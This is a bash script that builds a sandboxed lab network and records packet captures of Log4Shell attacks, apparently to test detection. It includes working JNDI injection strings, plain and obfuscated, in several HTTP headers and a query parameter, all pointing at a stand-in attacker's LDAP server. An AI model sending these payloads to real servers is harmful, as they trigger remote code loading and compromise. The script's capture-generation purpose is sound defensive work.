#!/bin/bash
# A JNDI look-up in HTTP headers, and the victim that follows it: log4shell.sh [plain|obfuscated|noise]
# The victim's call back is real LDAP (ldapsearch to slapd on port 1389), then HTTP for the class file it was pointed to.
# noise: the same strings thrown at a server that follows none of them: an attempt, no callback.
. "$(dirname "$0")/lib.sh"
needs curl nginx slapd ldapsearch
router
host attacker 198.51.100.23
host victim 10.20.2.80
web_server victim <<<'server { listen 8080; location / { return 200 "hello\n"; } }'
listening victim 8080
mkdir -p "$TMP/attacker/www" "$TMP/db" && chmod 777 "$TMP/db"
head -c 900 /dev/urandom >"$TMP/attacker/www/Exploit.class"
web_server attacker <<<'server { listen 8888; }'
printf 'include /etc/ldap/schema/core.schema\nmoduleload back_ldif\ndatabase ldif\ndirectory %s\nsuffix "dc=example"\nrootdn "cn=admin,dc=example"\n' "$TMP/db" >"$TMP/slapd.conf"
background attacker slapd -d 0 -f "$TMP/slapd.conf" -h ldap://198.51.100.23:1389
listening attacker 1389
ask() { in_ attacker curl -s -m 5 -o "$TMP/o" "$@" || true; }
follow() { # what the vulnerable logger does: an LDAP look-up of the name, then the class file
	in_ victim ldapsearch -x -LLL -o nettimeout=5 -H ldap://198.51.100.23:1389 -b "$1" -s base >"$TMP/o" 2>&1 || true
	in_ victim curl -s -A 'Java/1.8.0_181' -o "$TMP/o" http://198.51.100.23:8888/Exploit.class
}
home=http://10.20.2.80:8080
case ${1:-plain} in
plain)
	tap victim log4shell-plain.pcap
	ask $home/
	ask -A '${jndi:ldap://198.51.100.23:1389/Exploit}' $home/
	follow 'dc=Exploit,dc=example'
	save log4shell-plain.pcap
	;;
obfuscated)
	tap victim log4shell-obfuscated.pcap
	ask -H 'X-Api-Version: ${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.23:1389/a}' $home/api
	ask -H 'Referer: ${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://198.51.100.23:1389/a}' $home/
	ask "$home/?q=%24%7B%24%7Benv%3ANaN%3A-j%7Dndi%24%7Benv%3ANaN%3A-%3A%7Dldap%3A%2F%2F198.51.100.23%3A1389%2Fa%7D"
	follow 'dc=a,dc=example'
	save log4shell-obfuscated.pcap
	;;
noise)
	tap victim log4shell-no-callback.pcap
	ask -A '${jndi:ldap://198.51.100.23:1389/Exploit}' $home/
	ask -H 'X-Forwarded-For: ${jndi:dns://198.51.100.23/a}' $home/
	save log4shell-no-callback.pcap
	;;
*) refuse "unknown kind: $1" ;;
esac
